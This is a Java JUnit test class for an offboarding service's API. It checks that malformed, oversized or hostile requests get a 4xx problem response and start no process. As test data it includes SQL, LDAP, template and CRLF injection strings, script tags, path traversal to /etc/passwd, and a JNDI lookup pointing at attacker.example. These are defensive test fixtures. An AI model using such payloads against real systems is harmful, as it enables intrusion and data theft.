package dev.offboarding.production;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offboarding.Http;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * Whatever arrives at /api, broken, oversized, hostile or out of range, is answered with a 4xx problem, never a 500,
 * and starts nothing.
 */
@PostgresSpringTest
class BadInputTest {

    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        String url = SharedPostgres.newDatabase();
        registry.add("spring.datasource.url", () -> url);
    }

    private static final String START = "/api/offboardings";
    private static final String BULK = "/api/offboardings/bulk";
    private static final String JSON = "application/json";
    private static final String CSV = "text/csv";

    @LocalServerPort
    int port;
    @Autowired
    RuntimeService runtimeService;
    Http http;

    @BeforeEach
    void client() {
        http = new Http(port);
    }

    @AfterEach
    void nothingStarted() {
        var started = runtimeService.createProcessInstanceQuery().list();
        if (!started.isEmpty()) {
            runtimeService.deleteProcessInstances(started.stream().map(p -> p.getId()).toList(), "test", true, true);
        }
        assertThat(started).as("offboardings started by bad input").isEmpty();
    }

    static Stream<Arguments> badRequests() {
        List<Arguments> cases = new ArrayList<>();
        // Malformed JSON
        for (String body : List.of("{", "{\"userPrincipalName\": }", "[1,2", "null", "\"adele.vance@contoso.com\"", "123",
                "", "{\"userPrincipalName\": \"adele.vance@contoso.com\"}}", "{\"userPrincipalName\": \"a@b.c\",}",
                "[".repeat(5000) + "]".repeat(5000), "\u0000\u0001\u0002", "{\"userPrincipalName\": \"\\ud800\"}")) {
            cases.add(Arguments.of("malformed JSON " + abbreviate(body), "POST", START, JSON, body));
        }
        // Unknown fields and wrong types
        cases.add(start("unknown field", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"admin\": true}"));
        cases.add(start("requestedBy from input", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"requestedBy\": \"ceo\"}"));
        cases.add(start("unknown decision", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"DELETE\", \"wipe\": true}}"));
        cases.add(start("number as name", "{\"userPrincipalName\": 42}"));
        cases.add(start("list as name", "{\"userPrincipalName\": [\"adele.vance@contoso.com\"]}"));
        cases.add(start("object as name", "{\"userPrincipalName\": {\"$gt\": \"\"}}"));
        cases.add(start("text as flag", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"DELETE\", \"removeLicenses\": \"maybe\"}}"));
        cases.add(start("text as decisions", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": \"DELETE\"}"));
        // Odd Unicode
        for (String name : List.of("adele\u202E@contoso.com", "adele\u200B.vance@contoso.com", "\u0430dele.vance@contoso.com",
                "adele\u0000.vance@contoso.com", "adele\uFF20contoso.com", "\uD83D\uDE00@contoso.com", "adele.vance@contoso.com\n",
                "adele.vance@xn--contoso-.com")) {
            cases.add(start("odd name " + name.codePoints().mapToObj(Integer::toHexString).toList(),
                    "{\"userPrincipalName\": \"" + jsonEscape(name) + "\"}"));
        }
        cases.add(start("reason with a NUL", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"reason\": \"a\\u0000b\"}"));
        cases.add(start("reason with a right-to-left override", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"reason\": \"exe.\\u202Etxt\"}"));
        // Injection strings where they have no place
        for (String injection : List.of("' OR 1=1 --", "adele@contoso.com'; DROP TABLE sandbox_user; --",
                "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>@contoso.com", "adele.vance@contoso.com%00",
                "*)(uid=*))(|(uid=*", "{{7*7}}@contoso.com", "adele.vance@contoso.com\r\nX-Injected: 1")) {
            cases.add(start("injection as name " + abbreviate(injection), "{\"userPrincipalName\": \"" + jsonEscape(injection) + "\"}"));
            cases.add(start("injection as ticket " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"ticketReference\": \"" + jsonEscape(injection) + "\"}"));
            cases.add(start("injection as action " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"" + jsonEscape(injection) + "\"}}"));
            cases.add(start("injection as leave date " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"leaveDate\": \"" + jsonEscape(injection) + "\"}"));
            cases.add(start("injection as time zone " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"leaveDate\": \"2026-12-18\", \"timeZone\": \"" + jsonEscape(injection) + "\"}"));
            cases.add(start("injection as template " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"template\": \"" + jsonEscape(injection) + "\"}"));
            cases.add(start("injection as forwarding " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"CONVERT_TO_SHARED\", \"mailboxDelegate\": \"diego.siciliani@contoso.com\", \"forwardMailTo\": \"" + jsonEscape(injection) + "\"}}"));
            cases.add(Arguments.of("injection in a preview " + abbreviate(injection), "POST", START + "/preview", JSON,
                    "{\"userPrincipalName\": \"" + jsonEscape(injection) + "\"}"));
            cases.add(start("injection as delegate " + abbreviate(injection),
                    "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"CONVERT_TO_SHARED\", \"mailboxDelegate\": \"" + jsonEscape(injection) + "\"}}"));
        }
        // Every field out of range
        cases.add(start("name too long", "{\"userPrincipalName\": \"" + "a".repeat(64) + "@" + "b".repeat(45) + ".com\"}"));
        cases.add(start("local part too long", "{\"userPrincipalName\": \"" + "a".repeat(65) + "@contoso.com\"}"));
        cases.add(start("empty name", "{\"userPrincipalName\": \"\"}"));
        cases.add(start("reason too long", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"reason\": \"" + "r".repeat(1001) + "\"}"));
        cases.add(start("ticket too long", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"ticketReference\": \"" + "T".repeat(101) + "\"}"));
        cases.add(start("display name too long", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"CONVERT_TO_SHARED\", \"mailboxDelegate\": \"diego.siciliani@contoso.com\", \"sharedMailboxDisplayName\": \"" + "d".repeat(257) + "\"}}"));
        cases.add(start("automatic reply too long", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"CONVERT_TO_SHARED\", \"mailboxDelegate\": \"diego.siciliani@contoso.com\", \"autoReplyExternal\": \"" + "x".repeat(4001) + "\"}}"));
        for (String leaveDate : List.of("9999-12-31", "0000-01-01", "2026-02-30", "2026-12-18T25:00", "-2026-12-18",
                "2026-12-18T17:00+25:00", "1e9", "")) {
            cases.add(start("leave date " + leaveDate, "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"leaveDate\": \""
                    + leaveDate + "\", \"timeZone\": \"Europe/Berlin\"}"));
        }
        cases.add(start("time zone too long", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"leaveDate\": \"2026-12-18\", \"timeZone\": \"" + "Z".repeat(65) + "\"}"));
        cases.add(start("leave date as a number", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"leaveDate\": 20261218}"));
        cases.add(start("checklist flag as text", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"DELETE\", \"cancelMeetings\": \"please\"}}"));
        cases.add(start("forwarding to no address", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"CONVERT_TO_SHARED\", \"mailboxDelegate\": \"diego.siciliani@contoso.com\", \"forwardMailTo\": \"diego\"}}"));
        cases.add(start("forwarding and deleting", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"DELETE\", \"forwardMailTo\": \"diego.siciliani@contoso.com\"}}"));
        cases.add(start("unknown template", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"template\": \"everything\"}"));
        cases.add(start("action in lower case", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {\"mailboxAction\": \"delete\"}}"));
        cases.add(start("no action", "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"decisions\": {}}"));
        cases.add(start("unknown user", "{\"userPrincipalName\": \"../../etc/passwd@contoso.com\"}"));
        cases.add(Arguments.of("body over 2 MB", "POST", START, JSON,
                "{\"userPrincipalName\": \"adele.vance@contoso.com\", \"reason\": \"" + "x".repeat(3 * 1024 * 1024) + "\"}"));
        cases.add(Arguments.of("wrong content type", "POST", START, "application/xml", "<offboarding/>"));
        // Query parameters and paths
        for (String query : List.of("?size=0", "?size=-1", "?size=201", "?page=-1", "?page=abc", "?size=99999999999999999999",
                "?state=%27%20OR%201=1--", "?state=ENDED%00")) {
            cases.add(Arguments.of("list " + query, "GET", START + query, null, null));
        }
        cases.add(Arguments.of("unknown id", "GET", START + "/%27%20OR%201=1", null, null));
        cases.add(Arguments.of("cancel of an unknown id", "POST", START + "/does-not-exist/cancel", JSON, ""));
        cases.add(Arguments.of("restore of an unknown id", "POST", START + "/..%2F..%2Fetc/restore", JSON, ""));
        // Bulk JSON
        cases.add(Arguments.of("bulk object", "POST", BULK, JSON, "{\"userPrincipalName\": \"adele.vance@contoso.com\"}"));
        cases.add(Arguments.of("bulk malformed", "POST", BULK, JSON, "[{\"userPrincipalName\": "));
        cases.add(Arguments.of("bulk over 1000 rows", "POST", BULK, JSON,
                "[" + String.join(",", java.util.Collections.nCopies(1001, "{\"userPrincipalName\": \"x@contoso.com\"}")) + "]"));
        // Bulk CSV
        for (String csv : List.of("", "reason\nLeaves\n", "userPrincipalName,shoeSize\na@contoso.com,42\n",
                "userPrincipalName,reason\n\"adele.vance@contoso.com,unclosed\n", "\u0000\u0001\u0002\u0003",
                "userPrincipalName\n")) {
            cases.add(Arguments.of("bulk CSV " + abbreviate(csv), "POST", BULK, CSV, csv));
        }
        cases.add(Arguments.of("bulk CSV over 1000 rows", "POST", BULK, CSV,
                "userPrincipalName\n" + "x@contoso.com\n".repeat(1001)));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badRequests")
    void isAProblemNeverA500(String name, String method, String path, String contentType, String body) {
        Http.Response response = method.equals("GET") ? http.get(path, "useradmin")
                : http.post(path, "useradmin", contentType, body);
        assertThat(response.status()).as(response.body()).isBetween(400, 499);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.json().get("detail").asText()).isNotBlank();
    }

    static Stream<Arguments> badRows() {
        return Stream.of(
                Arguments.of("JSON rows", JSON, """
                        [{"userPrincipalName": "' OR 1=1 --"},
                         {"userPrincipalName": "adele.vance@contoso.com", "ticketReference": "<script>"},
                         {"userPrincipalName": "adele.vance@contoso.com", "decisions": {"mailboxAction": "CONVERT_TO_SHARED"}},
                         {"userPrincipalName": "adele\\u202e@contoso.com"},
                         {"userPrincipalName": "adele.vance@contoso.com", "extra": 1},
                         17]"""),
                Arguments.of("CSV rows", CSV, """
                        userPrincipalName,ticketReference,mailboxAction,removeLicenses
                        ' OR 1=1 --,,,
                        adele.vance@contoso.com,<script>,,
                        adele.vance@contoso.com,,CONVERT_TO_SHARED,
                        adele.vance@contoso.com,,DELETE,perhaps
                        adele.vance@contoso.com,too,many,columns,here
                        """));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badRows")
    void everyBadRowIsAnsweredAndNoneStarts(String name, String contentType, String body) {
        Http.Response response = http.post(BULK, "useradmin", contentType, body);
        assertThat(response.status()).as(response.body()).isEqualTo(200);
        assertThat(response.json().get("started").asInt()).isZero();
        response.json().get("results").forEach(row -> {
            assertThat(row.get("status").asInt()).isBetween(400, 499);
            assertThat(row.get("problem").get("detail").asText()).isNotBlank();
        });
    }

    private static Arguments start(String name, String body) {
        return Arguments.of(name, "POST", START, JSON, body);
    }

    private static String abbreviate(String text) {
        String printable = text.codePoints().filter(c -> c >= 32 && c < 127)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
        return printable.length() > 30 ? printable.substring(0, 30) + "…" : printable;
    }

    private static String jsonEscape(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 32 || c > 126) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }
}
